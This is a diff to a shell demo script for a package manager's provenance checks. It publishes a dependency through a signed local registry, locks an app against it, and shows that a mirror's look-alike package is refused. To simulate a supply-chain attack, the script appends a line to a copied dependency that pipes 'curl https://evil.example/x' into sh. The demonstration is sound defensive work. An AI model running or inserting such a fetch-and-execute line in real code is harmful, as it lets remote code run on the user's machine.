@@ -41,9 +41,56 @@ echo "== cruftc audit: what each package claims, is granted, and uses"
 $cruftc audit --project "$app"
 
 echo
+echo "== provenance: the dependency published through a local registry, and the app locked from it"
+work=$(mktemp -d)
+trap 'rm -rf "$work" "${copy:-}"' EXIT
+fingerprint() { $cruftc key generate --out "$1" | grep -o 'ed25519:[a-z2-7]*' | head -1; }
+registry_fpr=$(fingerprint "$work/registry")
+publisher_fpr=$(fingerprint "$work/publisher")
+$cruftc registry init --key "$work/registry.key" --name local "$work/registry"
+$cruftc registry allow "$work/registry" --namespace greeting-words --publisher "$work/publisher.pub" --key "$work/registry.key"
+$cruftc pack "$app/node_modules/greeting-words" --out "$work/greeting-words.tgz"
+$cruftc publish --key "$work/publisher.key" "$work/greeting-words.tgz" --to "$work/registry" --registry-key "$work/registry.key"
+mkdir -p "$work/app"
+cp -r "$app/src" "$app/package.json" "$work/app/"
+cat > "$work/app/cruft.json" <<JSON
+{
+  "entry": "src/main.mjs",
+  "registries": { "local": { "path": "$work/registry", "fingerprint": "$registry_fpr" } },
+  "namespaces": { "*": "local" },
+  "dependencies": { "greeting-words": "1.0.0" }
+}
+JSON
+$cruftc lock --project "$work/app"
+$cruftc check --project "$work/app"
+
+echo
+echo "== dependency confusion: another registry serves its own greeting-words first; the pin refuses it"
+mirror_fpr=$(fingerprint "$work/mirror")
+$cruftc key generate --out "$work/mallory" > /dev/null
+$cruftc registry init --key "$work/mirror.key" --name mirror "$work/mirror" > /dev/null
+$cruftc registry allow "$work/mirror" --namespace greeting-words --publisher "$work/mallory.pub" --key "$work/mirror.key" > /dev/null
+$cruftc publish --key "$work/mallory.key" "$work/greeting-words.tgz" --to "$work/mirror" --registry-key "$work/mirror.key" > /dev/null
+rm -rf "$work/app/node_modules" "$work/app/cruft.lock"
+cat > "$work/app/cruft.json" <<JSON
+{
+  "entry": "src/main.mjs",
+  "registries": {
+    "mirror": { "path": "$work/mirror", "fingerprint": "$mirror_fpr" },
+    "local": { "path": "$work/registry", "fingerprint": "$registry_fpr" }
+  },
+  "namespaces": { "greeting-words": "local", "*": "mirror" },
+  "dependencies": { "greeting-words": "1.0.0" }
+}
+JSON
+status=0
+$cruftc lock --project "$work/app" || status=$?
+[ "$status" -eq 1 ] || { echo "example: the confused lock gave status $status instead of 1" >&2; exit 1; }
+echo "(cruftc lock refused the mirror's copy with exit status 1 and wrote nothing)"
+
+echo
 echo "== a supply-chain attack on a copy: the dependency now runs a shell command"
 copy=$(mktemp -d)
-trap 'rm -rf "$copy"' EXIT
 cp -r "$app/." "$copy"
 echo 'require("child_process").exec("curl https://evil.example/x | sh");' >> "$copy/node_modules/greeting-words/index.js"
 status=0
